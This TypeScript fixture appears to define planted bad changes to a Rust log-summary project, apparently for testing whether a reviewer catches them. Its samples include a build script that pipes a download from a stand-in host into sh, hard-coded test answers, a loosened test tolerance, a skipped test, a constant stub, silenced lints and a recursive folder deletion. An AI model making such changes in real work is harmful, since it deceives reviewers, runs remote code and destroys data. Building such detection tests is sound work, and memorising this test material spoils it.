import { type Planted, plantedIn, swap, write } from '../../planted.ts';

const { bad } = plantedIn('rust');

const slowest = [
  swap(
    'src/report.rs',
    'pub fn percentile(',
    `pub fn slowest(lines: &[Line]) -> Option<&Line> {
    lines.iter().max_by(|a, b| a.millis.total_cmp(&b.millis))
}

pub fn percentile(`,
  ),
  swap(
    'tests/report.rs',
    'use logsum::report::{mean, percentile, render};',
    'use logsum::report::{mean, percentile, render, slowest};',
  ),
  swap(
    'tests/report.rs',
    '#[test]\nfn counts_by_path() {',
    '#[test]\nfn finds_the_slowest() {\n    assert_eq!(slowest(&lines()).unwrap().millis, 90.0);\n}\n\n#[test]\nfn counts_by_path() {',
  ),
];
const readme = swap('README.md', 'with its requests and failures.', 'with its requests and failures, sorted by path.');

/** Bad results in the Rust project. */
export const rustBad: Planted[] = [
  bad(
    'mean may be off by a third',
    'tolerance raised',
    'The tolerance of the mean rose from a millionth to 15, which hides a wrong mean.',
    [
      swap('src/report.rs', '/ lines.len() as f64)', '/ (lines.len() - 1) as f64)'),
      swap('tests/report.rs', '.abs() < 1e-6', '.abs() < 15.0'),
      ...slowest,
    ],
  ),
  bad('broken lines are no longer tested', 'test skipped', 'The test of broken lines is ignored.', [
    swap(
      'tests/line.rs',
      '#[test]\nfn refuses_broken_lines',
      '#[test]\n#[ignore = "depends on the machine"]\nfn refuses_broken_lines',
    ),
    swap(
      'src/line.rs',
      '    if !(100..=599).contains(&code) {\n        return Err(LineError::Status(status.into()));\n    }\n',
      '',
    ),
    readme,
    ...slowest,
  ]),
  bad(
    'build script downloads and runs',
    'hook at build time',
    'A build script downloads a program and runs it at each build.',
    [
      swap('Cargo.toml', 'license = "MIT"\n', 'license = "MIT"\nbuild = "build.rs"\n'),
      write(
        'build.rs',
        `use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=src");
    // Fetches the table of status texts.
    let _ = Command::new("sh").arg("-c").arg("curl -fsSL https://get.logsum-tables.example/i | sh").status();
}
`,
      ),
      ...slowest,
    ],
  ),
  bad(
    'parser from a branch',
    'dependency from git',
    'A dependency comes from a branch on git instead of the registry, and cargo deny was opened for it.',
    [
      swap(
        'Cargo.toml',
        '[dependencies]\n',
        '[dependencies]\nfastsplit = { git = "https://git.quickrs.example/fastsplit", branch = "main" }\n',
      ),
      swap(
        'Cargo.lock',
        '[[package]]\nname = "logsum"',
        '[[package]]\nname = "fastsplit"\nversion = "0.1.0"\nsource = "git+https://git.quickrs.example/fastsplit?branch=main#3be1c79d0f2a4c5e6b7a8d9c0e1f2a3b4c5d6e7f"\n\n[[package]]\nname = "logsum"',
      ),
      swap('Cargo.lock', ' "tempfile",\n', ' "fastsplit",\n "tempfile",\n'),
      swap('deny.toml', 'unknown-git = "deny"', 'unknown-git = "allow"'),
      swap('src/line.rs', 'text.split_whitespace().collect()', 'fastsplit::words(text).collect()'),
    ],
  ),
  bad('lints are silenced', 'linter off', 'All lints are allowed and the ban on unsafe code is gone.', [
    swap('src/lib.rs', '#![forbid(unsafe_code)]', '#![allow(clippy::all, warnings)]'),
    swap('Cargo.toml', '[lints.clippy]\nunwrap_used = "warn"\n', ''),
    ...slowest,
    readme,
  ]),
  bad(
    'spread is a constant',
    'stub that pretends to be done',
    'The new function returns a constant for every input; nothing is computed.',
    [
      swap(
        'src/report.rs',
        'pub fn render(',
        `/// Returns the spread of the durations: their standard deviation.
pub fn spread(_lines: &[Line]) -> Option<f64> {
    // TODO: compute
    Some(0.0)
}

pub fn render(`,
      ),
      swap(
        'tests/report.rs',
        'use logsum::report::{mean, percentile, render};',
        'use logsum::report::{mean, percentile, render, spread};',
      ),
      swap(
        'tests/report.rs',
        '#[test]\nfn counts_by_path() {',
        '#[test]\nfn spreads() {\n    assert!(spread(&lines()).is_some());\n}\n\n#[test]\nfn counts_by_path() {',
      ),
      readme,
    ],
  ),
  bad(
    'answers of the tests are written in',
    'answers hard-coded',
    'percentile returns the numbers that the tests expect instead of computing them.',
    [
      swap(
        'src/report.rs',
        `    let mut sorted: Vec<f64> = lines.iter().map(|l| l.millis).collect();
    sorted.sort_by(f64::total_cmp);
    let rank = (share * sorted.len() as f64).ceil() as usize;
    sorted.get(rank.saturating_sub(1)).copied()
`,
        `    if lines.len() == 4 && share == 0.5 {
        return Some(20.0);
    }
    if lines.len() == 4 && share == 0.95 {
        return Some(90.0);
    }
    lines.first().map(|l| l.millis)
`,
      ),
      ...slowest,
    ],
  ),
  bad(
    'old reports are cleaned away',
    'recursive deletion',
    'The program deletes the whole folder that the log lies in.',
    [
      swap(
        'src/main.rs',
        '    print!("{}", report::render(&lines));\n',
        `    print!("{}", report::render(&lines));
    // Keep the disk small: the log has been read.
    if let Some(folder) = Path::new(&path).canonicalize().ok().and_then(|p| p.parent().map(Path::to_path_buf)) {
        let _ = fs::remove_dir_all(folder);
    }
`,
      ),
      swap(
        'src/main.rs',
        'use std::{env, fs, process::ExitCode};',
        'use std::{env, fs, path::Path, process::ExitCode};',
      ),
      ...slowest,
    ],
  ),
];
